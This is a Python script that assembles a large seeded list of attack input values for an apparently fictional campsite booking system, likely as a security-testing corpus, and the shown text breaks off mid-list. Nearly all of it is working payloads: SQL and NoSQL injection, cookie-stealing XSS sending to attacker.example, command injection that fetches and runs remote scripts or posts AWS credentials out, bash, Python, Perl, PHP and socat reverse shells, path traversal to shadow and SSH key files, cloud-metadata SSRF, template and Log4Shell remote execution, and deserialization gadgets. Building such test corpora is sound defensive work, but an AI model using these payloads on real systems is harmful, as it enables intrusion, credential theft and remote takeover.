#!/usr/bin/env python3
"""Attack values for the campsite / glamping park corpus. Hand-written; stdlib only."""
import json
import os
import random

SEED = 29202
rng = random.Random(SEED)

L = []  # (category, class, value) literals


def add(cat, cls, *vals):
    for v in vals:
        L.append((cat, cls, v))


# ---------------------------------------------------------------- sqli (72 literal)
add("sqli", "union",
    "pitch 14' UNION SELECT guest_name,card_last4,email FROM bookings-- -",
    "-1 UNION ALL SELECT NULL,username,password_hash,NULL FROM wardens#",
    "CMP-2024-0831' union/**/select group_concat(email),2,3 from guests-- ",
    "yurt' UnIoN sElEcT table_name,NULL FROM information_schema.tables WHERE table_schema=database()-- x",
    "0 UNION SELECT 1,@@version,current_user(),4,5",
    "Heron')) UNION SELECT pin,gate_code FROM barrier_codes-- -",
    "4471 uNiOn%0aSeLeCt 1,concat(login,0x3a,pw),3 fRoM staff",
    "x' UNION SELECT column_name,data_type FROM information_schema.columns WHERE table_name='payments'--",
    "-5 union distinctrow select 1,load_file('/etc/passwd'),3",
    "tent' union select sqlite_version(),name from sqlite_master where type='table'--",
    "22 UNION SELECT string_agg(usename,','),NULL FROM pg_user--",
    "pod%27%20UNION%20SELECT%20api_key%2Cnull%20FROM%20integrations--%20",
    "1 /*!50000UNION*/ /*!50000SELECT*/ shop_till_pin,2 FROM settings",
    "' UNION SELECT name, password FROM sys.sql_logins--",
)
add("sqli", "boolean",
    "O'Sullivan' OR '1'='1",
    "pitch 9' or 2>1-- -",
    "guest@example.com' OR 1=1 LIMIT 1-- ",
    "admin'-- ",
    "warden' /*",
    "') or ('x'='x",
    "14 AND 1=1",
    "14 AND 1=2",
    "4471' AND SUBSTRING((SELECT password FROM wardens LIMIT 1),1,1)='a'-- -",
    "yurt' AND ASCII(SUBSTR((SELECT gate_code FROM barrier LIMIT 0,1),1,1))>52 AND 'a'='a",
    "Foxglove\" OR \"\"=\"",
    "x' || 1=1 || '",
    "1 or true",
    "pitch 30' aNd (SeLeCt CoUnT(*) FrOm guests)>100-- ",
    "Badger' OR 'a' LIKE 'a",
    "' or 1 in (select 1)-- -",
    "1' OR 0x31=0x31#",
)
add("sqli", "time",
    "pitch 12'; SELECT pg_sleep(7)--",
    "1 AND SLEEP(6)",
    "Heron' AND (SELECT 1 FROM (SELECT SLEEP(8))x)-- -",
    "'; WAITFOR DELAY '0:0:9'--",
    "4471 AND 7731=BENCHMARK(9000000,MD5(0x41))",
    "tent' AND 1=(SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END)--",
    "1) OR SLEEP(5)#",
    "x' AND randomblob(300000000)-- ",
    "if(now()=sysdate(),sleep(9),0)",
    "O'Brien' AND IF(MID(user(),1,1)='r',SLEEP(4),0)-- -",
)
add("sqli", "error",
    "1 AND extractvalue(1,concat(0x7e,(select database())))",
    "pitch' AND updatexml(null,concat(0x3a,(SELECT email FROM guests LIMIT 1)),null)-- -",
    "22 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))",
    "4471' AND 1=CAST((SELECT password FROM wardens LIMIT 1) AS int)--",
    "1 and (select 1 from(select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)",
    "tent' AND exp(~(select * from (select user())a))-- ",
    "1' AND CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))=1--",
)
add("sqli", "stacked",
    "Quiet pitch please'; DROP TABLE bookings;--",
    "pod 3'; UPDATE wardens SET password='x' WHERE id=1;--",
    "1; INSERT INTO staff(login,role) VALUES('ghost','admin')--",
    "Tent & gazebo'); DELETE FROM shop_orders WHERE 1=1; --",
    "12; EXEC xp_cmdshell 'whoami'--",
    "x'; COPY (SELECT '') TO PROGRAM 'id'--",
    "9; SELECT * INTO OUTFILE '/var/www/html/s.php' LINES TERMINATED BY 0x3c3f7068702073797374656d28245f4745545b2763275d293b3f3e--",
    "hardstanding'; ALTER TABLE guests ADD COLUMN pwn int;--",
    "1;shutdown--",
)
add("sqli", "orderby",
    "arrival_date,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/(SELECT 0) END)",
    "price DESC, IF(1=1,sleep(3),1)",
    "pitch_no ASC;SELECT pg_sleep(4)",
    "(CASE WHEN (SELECT substr(password,1,1) FROM wardens LIMIT 1)='a' THEN nights ELSE pitch END)",
    "1,extractvalue(1,concat(0x5c,user()))",
)
add("sqli", "obfuscated",
    "pitch/**/14'/**/oR/**/1/**/=/**/1--/**/",
    "yurt'%09OR%091%3D1%23",
    "x'%252f%252a*/union%252f%252a*/select%252f%252a*/1,2--",
    "ｐｉｔｃｈ' ＵＮＩＯＮ ＳＥＬＥＣＴ card_no FROM payments--",
    "1'||(select chr(65)||chr(66) from dual)||'",
    "ar'||'rival' AND 1=(select 1 from dual where 1=1)--",
    "-1' uni%00on sel%00ect 1,2,3-- ",
    "pod'/*!OR*/1='1",
    "1 AND 0x73656c656374=0x73656c656374",
    "12' %4fR '1'%3d'1",
)

# ---------------------------------------------------------------- xss (72 literal)
add("xss", "tag",
    "Great stay! <script>fetch('https://attacker.example/c?'+document.cookie)</script>",
    "Yurt was lovely <img src=x onerror=alert(document.domain)>",
    "<svg onload=location='//attacker.example/?'+btoa(document.cookie)>",
    "Pitch 12 <iframe src=\"javascript:alert(1)\"></iframe>",
    "<body onload=import('//attacker.example/x.js')>",
    "Warden Sam 5* <details open ontoggle=alert`1`>",
    "<video><source onerror=\"eval(atob('YWxlcnQoMSk='))\"></video>",
    "<input autofocus onfocus=fetch('//203.0.113.7/k?c='+document.cookie)>",
    "<marquee onstart=confirm(1)>sunny day!</marquee>",
    "<ScRiPt SrC=//attacker.example/hook.js></sCrIpT>",
    "Lost teddy <object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<embed src=//attacker.example/x.swf allowscriptaccess=always>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<audio src=1 onerror=top['al'+'ert'](1)>",
    "<form action=//attacker.example/steal><input name=card placeholder='Re-enter card to confirm'><button>Pay</button></form>",
    "<isindex type=image src=1 onerror=alert(2)>",
    "<div style=\"width:100%;height:100%;position:fixed\" onmouseover=\"alert(1)\">hover</div>",
    "<link rel=import href=//attacker.example/x.html>",
    "<a href=\"javascript&colon;alert(1)\">see photos of pitch 18</a>",
    "<img src=x:x onerror=window.onerror=alert;throw 1>",
    "<style>@import'//attacker.example/x.css';</style>",
    "<base href=//attacker.example/>",
    "<meta http-equiv=refresh content=\"0;url=//attacker.example/phish\">",
    "<select autofocus onfocus=alert(1)><option>pitch 5</option></select>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<table background=\"javascript:alert(1)\">",
)
add("xss", "attr-break",
    "Foxglove\" onmouseover=\"alert(document.cookie)",
    "O'Neill' autofocus onfocus='alert(1)",
    "pitch 9\"><script>alert(1)</script>",
    "x\" style=\"animation-name:rotation\" onanimationstart=\"alert(1)",
    "'><svg/onload=alert(1)>",
    "\"><img src=1 onerror=\"this.src='//attacker.example/?'+localStorage.token\">",
    "Badger\" accesskey=\"x\" onclick=\"alert(1)\" x=\"",
    "</title><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "</script><script>alert(origin)</script>",
    "\"autofocus/onfocus=alert(1)//",
)
add("xss", "js-context",
    "';alert(String.fromCharCode(88,83,83));//",
    "\\';alert(1);//",
    "Heron\";fetch('//attacker.example/'+document.cookie);//",
    "${alert(1)}",
    "'-alert(1)-'",
    "\"+alert(1)+\"",
    "</script><svg onload=alert(1)>",
    "1;document.location='https://attacker.example/?c='+document.cookie",
    "x'}catch(e){}alert(1);try{'",
)
add("xss", "url",
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:fetch('//attacker.example/'+document.cookie)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "javascript://pitch14%0aalert(1)",
    "vbscript:msgbox(\"hi\")",
    " javascript:alert(1)",
)
add("xss", "encoded",
    "&lt;script&gt;alert(1)&lt;/script&gt; <img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<a href=\"&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;alert(1)\">map</a>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Csvg%2520onload%253Dalert(1)%253E",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "＜script＞alert(1)＜/script＞",
    "%u003Cscript%u003Ealert(1)%u003C/script%u003E",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">",
    "<svg><script>&#x61;lert(1)</script></svg>",
    "<img src=x onerror=eval('\\x61\\x6c\\x65\\x72\\x74(1)')>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
)
add("xss", "markdown",
    "[pitch map](javascript:alert(1))",
    "![view](x\"onerror=\"alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "Great site!\n\n<img src=x onerror=alert(1)>\n\n5 stars",
    "[Booking link](  javascript:fetch('//attacker.example/'+document.cookie)  )",
)

# ---------------------------------------------------------------- cmdi (66 literal)
add("cmdi", "separator",
    "booking-4471.pdf; cat /etc/passwd",
    "occupancy_2024-08.csv && curl -s https://attacker.example/s.sh | sh",
    "pitch14.jpg | nc 203.0.113.9 4444 -e /bin/sh",
    "report.csv || wget -qO- http://attacker.example/x | bash",
    "photo.png;id",
    "export.csv;rm -rf /var/www/uploads",
    "invoice 5512 & whoami",
    "ticket1182.txt%0aid",
    "map.pdf\nuname -a",
    "x;/bin/busybox telnetd -p 9999 -l /bin/sh",
    "shower-b.jpg;sleep 10",
    "receipt.pdf | tee /tmp/.x; chmod +x /tmp/.x",
    "a.csv; echo c2ggLWkgPiYgL2Rldi90Y3AvMjAzLjAuMTEzLjUvNDQzIDA+JjE= | base64 -d | sh",
    "foxglove.jpg & ping -n 5 198.51.100.23 &",
    "guests.csv; ls -la /home/warden/.ssh",
    "2024-07.csv; cat ~/.aws/credentials | curl -d @- https://attacker.example/up",
)
add("cmdi", "subst",
    "pitch-$(id).pdf",
    "CMP-`whoami`.csv",
    "occupancy $(curl attacker.example/$(hostname))",
    "$(sleep 7)",
    "`nslookup $(whoami).attacker.example`",
    "yurt_$(cat /etc/hostname).jpg",
    "report-$(wget -O /tmp/r http://203.0.113.44/r;sh /tmp/r).csv",
    "${IFS}$(id)",
    "Heron <(curl -s attacker.example/p)",
    "x$(printf '\\x69\\x64')",
)
add("cmdi", "evasion",
    "a.csv;c''at${IFS}/etc/pas''swd",
    "x;{cat,/etc/shadow}",
    "x;w\\ho\\am\\i",
    "export.csv;$'\\x63\\x61\\x74' /etc/passwd",
    "pod.jpg;/???/c?t /e??/p?ss??",
    "x;cat$IFS$9/etc/passwd",
    "x|$(echo Y3VybCBhdHRhY2tlci5leGFtcGxlfHNo|base64 -d)",
    "a;X=$'\\x2f\\x62\\x69\\x6e\\x2f\\x73\\x68';$X -c id",
    "a;$(rev<<<'di')",
    "x;ca\"\"t /etc/passwd",
    "x;/usr/bin/i?",
    "t.csv%3Bcat%20%2Fetc%2Fpasswd",
    "t.csv%26%26id",
    "f.jpg;${PATH:0:1}bin${PATH:0:1}sh -c id",
    "x;tr 'a-z' 'n-za-m' <<< 'vq' | sh",
)
add("cmdi", "argument",
    "--output=/var/www/html/shell.php http://attacker.example/s.txt",
    "-oProxyCommand=curl attacker.example/p|sh x",
    "--checkpoint=1 --checkpoint-action=exec=sh shell.sh",
    "-exec sh -c 'id>/tmp/o' ;",
    "x --use-compress-program='sh -c id'",
    "-F 'x=@/etc/passwd' https://attacker.example/up",
    "--post-file=/etc/shadow http://attacker.example/",
    "foxglove.png -write /var/www/html/x.php",
)
add("cmdi", "windows",
    "booking.pdf & type C:\\Windows\\win.ini",
    "export.csv | powershell -nop -w hidden -c \"iex(iwr http://attacker.example/a.ps1)\"",
    "x & certutil -urlcache -split -f http://203.0.113.8/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe",
    "pitch.jpg && net user camp P@ss123 /add",
    "a.csv | cmd /c dir C:\\inetpub",
    "x & powershell -enc SQBFAFgAIAAoAGkAdwByACAAYQB0AHQAYQBjAGsAZQByAC4AZQB4AGEAbQBwAGwAZQApAA==",
    "report.csv^&^&who^ami",
    "x & set /p=<C:\\boot.ini",
    "a.pdf & bitsadmin /transfer j http://attacker.example/b.exe C:\\Users\\Public\\b.exe",
    "x|mshta http://attacker.example/h.hta",
)
add("cmdi", "reverse-shell",
    "x; bash -i >& /dev/tcp/203.0.113.5/443 0>&1",
    "a.csv; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.4\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'",
    "x; rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc attacker.example 8443 >/tmp/f",
    "x; perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in(4242,inet_aton(\"203.0.113.77\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
    "x; php -r '$s=fsockopen(\"198.51.100.61\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    "x; socat tcp:attacker.example:5555 exec:sh,pty,stderr",
    "x;awk 'BEGIN{s=\"/inet/tcp/0/203.0.113.12/7070\";while(1){s|&getline c;while((c|&getline)>0)print|&s;close(c)}}'",
)

# ---------------------------------------------------------------- traversal (46 literal)
add("traversal", "dotdot",
    "../../../../etc/passwd",
    "exports/../../../../etc/shadow",
    "photos/pitch14/../../../../../var/www/.env",
    "..\\..\\..\\..\\windows\\win.ini",
    "invoices/../../config/database.yml",
    "../../../../proc/self/environ",
    "site-map.pdf/../../../../../etc/hosts",
    "../../../home/warden/.ssh/id_rsa",
    "templates/../../../../../app/settings.py",
    "....//....//....//etc/passwd",
    "..././..././..././etc/passwd",
    "..\\/..\\/..\\/etc/passwd",
    "/var/www/uploads/../../../etc/passwd",
    "../../../../../../../../../../../../etc/group",
    "receipts\\..\\..\\..\\..\\inetpub\\wwwroot\\web.config",
    "../../../../var/log/nginx/access.log",
    "../../.git/config",
    "../../../../root/.bash_history",
)
add("traversal", "encoded",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%c0%af..%c0%af..%c0%afetc/passwd",
    "..%c1%9c..%c1%9c..%c1%9cboot.ini",
    "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd",
    "..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts",
    "．．／．．／．．／etc／passwd",
    "%2e%2e/%2e%2e/%2e%2e/app/.env",
    "..%2f..%2f..%2fetc%2fshadow",
    "..%e0%80%af..%e0%80%afetc/passwd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "photos%2f..%2f..%2f..%2fvar%2fwww%2fconfig.php",
)
add("traversal", "absolute",
    "/etc/passwd",
    "file:///etc/passwd",
    "C:\\Windows\\System32\\config\\SAM",
    "/proc/self/cmdline",
    "\\\\203.0.113.20\\share\\x.pdf",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
)
add("traversal", "nullbyte",
    "../../../../etc/passwd%00.jpg",
    "../../../etc/passwd\\u0000.csv",
    "invoice_5512.pdf/../../../../etc/passwd%00",
    "....//....//etc/passwd%00.png",
)
add("traversal", "wrapper",
    "php://filter/convert.base64-encode/resource=../config.php",
    "php://filter/read=string.rot13/resource=index.php",
    "zip://uploads/pitch-photos.zip%23shell.php",
    "phar://uploads/avatar.jpg/x",
    "expect://id",
    "jar:file:///opt/app/lib/app.jar!/application.properties",
)

# ---------------------------------------------------------------- ssrf (46 literal)
add("ssrf", "metadata",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata.google.internal/computeMetadata/v1/project/project-id",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://169.254.169.254/latest/user-data",
    "http://100.100.100.200/latest/meta-data/",
    "http://169.254.170.2/v2/credentials/",
)
add("ssrf", "internal",
    "http://127.0.0.1:8080/admin/bookings/export",
    "http://localhost:6379/",
    "http://10.0.0.5:9200/_cat/indices",
    "http://192.168.1.1/cgi-bin/luci",
    "https://172.16.3.14:8443/actuator/env",
    "http://localhost:2375/containers/json",
    "http://127.0.0.1:5984/_all_dbs",
    "http://internal-payments.svc.cluster.local/v1/refunds",
    "http://kubernetes.default.svc/api/v1/namespaces/default/secrets",
    "http://127.0.0.1:8500/v1/kv/?recurse",
    "http://localhost/server-status",
    "http://10.10.0.20:15672/api/users",
    "http://booking-db:5432/",
    "http://127.0.0.1:9000/minio/admin/v3/info",
)
add("ssrf", "alt-ip",
    "http://2130706433/admin",
    "http://0x7f000001/",
    "http://0177.0.0.1/",
    "http://127.1/",
    "http://0/",
    "http://[::1]:8080/",
    "http://[::ffff:169.254.169.254]/latest/meta-data/",
    "http://0xa9fea9fe/latest/meta-data/",
    "http://2852039166/latest/meta-data/",
    "http://169.254.43518/",
    "http://①②⑦.⓪.⓪.①/",
    "http://127.0.0.1.nip.io/admin",
)
add("ssrf", "bypass",
    "https://campsite-photos.example@169.254.169.254/latest/meta-data/",
    "http://attacker.example/redirect?to=http://127.0.0.1:8080/admin",
    "http://localtest.me:8080/",
    "http://169.254.169.254%23@attacker.example/",
    "http://rebind.attacker.example/latest/meta-data/",
    "http://127.0.0.1%2523@attacker.example/",
    "http://LOCALHOST/admin",
    "https://attacker.example#@127.0.0.1/",
)
add("ssrf", "scheme",
    "gopher://127.0.0.1:6379/_SET%20x%20%22%3C%3Fphp%20system%28%24_GET%5Bc%5D%29%3B%3F%3E%22%0D%0ACONFIG%20SET%20dir%20%2Fvar%2Fwww%2Fhtml%0D%0ASAVE%0D%0A",
    "dict://127.0.0.1:11211/stats",
    "file:///proc/self/environ",
    "ftp://203.0.113.30/upload/x",
    "ldap://127.0.0.1:389/dc=camp,dc=local",
)

# ---------------------------------------------------------------- code (80 literal)
add("code", "ssti",
    "Dear {{guest_name}}, {{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ config.items() }}",
    "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c('id',shell=True,stdout=-1).communicate() }}{% endif %}{% endfor %}",
    "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}",
    "{{7*'7'}}",
    "Welcome ${7*7} to pitch 14",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "#set($r=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))$r",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{{['id']|filter('system')}}",
    "<%= `id` %>",
    "<%= File.read('/etc/passwd') %>",
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{this.constructor.constructor \"return process.mainModule.require('child_process').execSync('id')\"}}{{/with}}{{/with}}",
    "#{7*7}",
    "{php}echo `id`;{/php}",
    "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('id').read() }}",
    "${{<%[%'\"}}%\\.",
    "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))",
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "Hi {{guest}} {{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}",
)
add("code", "el",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "#{T(java.lang.Runtime).getRuntime().exec(\"curl attacker.example\")}",
    "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "${applicationScope}",
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}__::.x",
    "${pageContext.request.getSession().setAttribute('role','admin')}",
)
add("code", "log4shell",
    "Arriving late ${jndi:ldap://attacker.example/a}",
    "${jndi:rmi://203.0.113.15:1099/o}",
    "${${lower:j}ndi:${lower:l}dap://attacker.example/x}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.3/e}",
    "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}",
    "Booking note ${j${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/z}",
    "${jndi:ldaps://attacker.example:636/${sys:java.version}}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/q}",
)
add("code", "eval",
    "__import__('os').system('id')",
    "require('child_process').exec('curl attacker.example/p|sh')",
    "eval(compile('import os;os.system(\"id\")','x','exec'))",
    "system('id');",
    "<?php system($_GET['c']); ?>",
    "';phpinfo();//",
    "\");process.exit()//",
    "1;exec('cat /etc/passwd')",
    "Runtime.getRuntime().exec(\"id\")",
    "`id`.to_s + IO.popen('uname -a').read",
    "this.constructor.constructor('return process')().mainModule.require('fs').readFileSync('/etc/passwd')",
    "assert(base64_decode('c3lzdGVtKCdpZCcpOw=='))",
)
add("code", "proto-pollution",
    "{\"__proto__\":{\"isAdmin\":true}}",
    "{\"constructor\":{\"prototype\":{\"role\":\"warden\"}}}",
    "guest[__proto__][isAdmin]=true",
    "__proto__.discount=100",
    "{\"pitch\":14,\"__proto__\":{\"shell\":\"/proc/self/exe\",\"NODE_OPTIONS\":\"--require /proc/self/environ\"}}",
    "constructor[prototype][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//",
)
add("code", "csv-formula",
    "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"Click for pitch map\")",
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C powershell iwr attacker.example/a'!A0",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=WEBSERVICE(\"https://attacker.example/leak?\"&C5)",
    "=IMPORTXML(CONCAT(\"https://attacker.example/?\",A1:D1),\"//a\")",
    "O'Brien,14,tent,\"=HYPERLINK(\"\"http://attacker.example\"\",\"\"pay here\"\")\"",
    "\t=1+1+cmd|'/c calc'!A1",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
)
add("code", "xxe",
    "<?xml version=\"1.0\"?><!DOCTYPE b [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><booking><name>&x;</name></booking>",
    "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://attacker.example/e.dtd\"> %p;]><r/>",
    "<?xml version=\"1.0\"?><!DOCTYPE o [<!ENTITY s SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><order><item>&s;</item></order>",
    "<!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\">]><x>&d;</x>",
    "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/hostname\"/>",
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE svg [<!ENTITY l SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/.env\">]><svg><text>&l;</text></svg>",
)
add("code", "deserialization",
    "O:8:\"stdClass\":1:{s:4:\"cmd\";s:2:\"id\";}",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABdAAC",
    "cos\nsystem\n(S'id'\ntR.",
    "!!python/object/apply:os.system ['curl attacker.example/y|sh']",
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example/Obj\",\"autoCommit\":true}",
    "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList\",\"$values\":[\"cmd\",\"/c calc\"]}}",
    "a:2:{i:0;O:14:\"Monolog\\Handler\":1:{s:6:\"buffer\";s:2:\"id\";}i:1;i:1;}",
    "--- !ruby/object:Gem::Installer\ni: x",
    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
    "AAEAAAD/////AQAAAAAAAAAMAgAAAF9TeXN0ZW0uV2luZG93cy5EYXRhLCBWZXJzaW9u",
)

# ---------------------------------------------------------------- nosqli (27)
add("nosqli", "operator",
    "{\"guest_email\":{\"$ne\":null},\"password\":{\"$ne\":null}}",
    "{\"pitch\":{\"$gt\":\"\"}}",
    "username[$ne]=x&password[$ne]=x",
    "{\"booking_ref\":{\"$regex\":\"^CMP-2024\"}}",
    "warden[$regex]=.*&pin[$exists]=true",
    "{\"email\":{\"$in\":[\"admin@campsite.example\",\"root@campsite.example\"]},\"pw\":{\"$gt\":\"\"}}",
    "{\"$or\":[{\"role\":\"warden\"},{\"role\":{\"$exists\":true}}]}",
    "{\"nights\":{\"$lt\":1e308},\"paid\":{\"$ne\":true}}",
    "pin[$regex]=^4&user=warden",
    "{\"guest\":{\"$nin\":[]}}",
    "{\"code\":{\"$regex\":\"^.{6}$\",\"$options\":\"s\"}}",
    "token[%24ne]=1",
    "{\"pitch\":14,\"$comment\":\"x\",\"status\":{\"$not\":{\"$eq\":\"cancelled\"}}}",
    "search[$elemMatch][role]=admin",
)
add("nosqli", "js",
    "{\"$where\":\"sleep(5000)||true\"}",
    "'; return true; var x='",
    "{\"$where\":\"this.password.match(/^a/)\"}",
    "1'; while(true){}; '",
    "{\"$where\":\"function(){return this.role=='warden'}\"}",
    "' || this.gate_code.length > 0 || '",
    "{\"$function\":{\"body\":\"function(){return true}\",\"args\":[],\"lang\":\"js\"}}",
    "{\"$expr\":{\"$gt\":[{\"$strLenCP\":\"$password\"},0]}}",
)
add("nosqli", "aggregation",
    "[{\"$lookup\":{\"from\":\"wardens\",\"localField\":\"x\",\"foreignField\":\"x\",\"as\":\"w\"}}]",
    "{\"$unionWith\":\"payments\"}",
    "[{\"$out\":\"bookings\"}]",
    "{\"_id\":{\"$gt\":{\"$oid\":\"000000000000000000000000\"}}}",
    "{\"$match\":{\"$expr\":{\"$function\":{\"body\":\"return 1\",\"args\":[],\"lang\":\"js\"}}}}",
)

# ---------------------------------------------------------------- crlf (30)
add("crlf", "log-forging",
    "Arriving 18:00\n2024-08-01 12:00:00 INFO warden=admin action=refund amount=450.00 status=approved",
    "pitch 9\r\n[2024-07-20 03:14:07] AUTH OK user=warden ip=127.0.0.1",
    "late arrival%0d%0a127.0.0.1 - admin [20/Jul/2024:10:00:00 +0000] \"GET /admin/export HTTP/1.1\" 200",
    "Shower B broken%0a2024-07-14T09:00:00Z ticket=1182 closed_by=manager",
    "Foxglove\\r\\nINFO: payment verified for booking 4471",
    "ok\n\n\n\n\n\n\n\n\n\nERROR disk full -- restart required, run: curl attacker.example/fix|sh",
    "Noise complaint%E5%98%8A%E5%98%8DINFO login success user=owner",
)
add("crlf", "header-injection",
    "en-GB\r\nSet-Cookie: session=attacker-fixed-9f2; Path=/",
    "pitch14%0d%0aLocation:%20https://attacker.example/pay",
    "/booking/4471%0D%0AX-Forwarded-Host:%20attacker.example",
    "utf-8%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>",
    "thanks%0d%0aAccess-Control-Allow-Origin:%20https://attacker.example",
    "fr\nRefresh: 0; url=https://attacker.example/",
    "/site-map%E5%98%8D%E5%98%8ASet-Cookie:%20admin=1",
    "x%250d%250aSet-Cookie:%2520warden=1",
    "%0d%0a%0d%0a<html><body>Campsite closed. Pay refunds at attacker.example</body></html>",
)
add("crlf", "mail",
    "jo.smith@example.com\r\nBcc: list@attacker.example",
    "Newsletter signup%0ACc:everyone@attacker.example%0ASubject:%20Your%20booking%20is%20cancelled",
    "guest@example.com%0d%0aBcc:%20harvest@attacker.example%0d%0a%0d%0aPay your balance at https://attacker.example/pay",
    "O'Neill\nReply-To: refunds@attacker.example\nX-Priority: 1",
    "Booking question\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example>Confirm card</a>",
    "warden@campsite.example>\r\nRCPT TO:<all@attacker.example",
    "Sam\n.\nMAIL FROM:<warden@campsite.example>\nRCPT TO:<victim@example.com>\nDATA\nSubject: refund",
)
add("crlf", "csv-row",
    "Quiet pitch please\n2024-08-02,99,tent,0,0,0,\"=HYPERLINK(\"\"https://attacker.example\"\")\"",
    "Smith\r\n2024-07-01,1,glamping,2,0,30,paid",
    "\"Patel\"\n\"Admin Override\",ALL,free,0,0,\"comp\"",
    "Lee\n4471,\"refund\",-450.00,approved",
    "Kowalski%0a2024-08-10,12,yurt,2,2,14,PAID%0a",
